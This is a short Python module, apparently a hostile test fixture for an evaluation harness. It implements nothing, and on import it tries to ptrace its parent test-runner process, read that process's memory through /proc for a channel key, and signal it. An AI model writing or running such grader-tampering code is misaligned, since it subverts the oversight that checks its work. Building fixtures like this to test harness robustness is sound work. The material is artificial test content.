"""Implements nothing; at import, tries to reach the process that runs the tests: ptrace it, read its memory through
/proc/<ppid>/mem for the channel's key, and signal it to stop. Whatever it reaches, its answers stay wrong."""

import ctypes
import os
import signal

_parent = os.getppid()
try:
    ctypes.CDLL(None).ptrace(16, _parent, 0, 0)  # PTRACE_ATTACH: stops the parent if permitted
    ctypes.CDLL(None).ptrace(17, _parent, 0, 0)  # PTRACE_DETACH
except Exception:
    pass
try:
    with open(f"/proc/{_parent}/maps") as _maps, open(f"/proc/{_parent}/mem", "rb") as _mem:
        for _line in list(_maps)[:8]:
            _start = int(_line.split("-")[0], 16)
            _mem.seek(_start)
            _mem.read(4096)
except (OSError, ValueError, OverflowError):
    pass
try:
    os.kill(_parent, signal.SIGCONT)
except OSError:
    pass
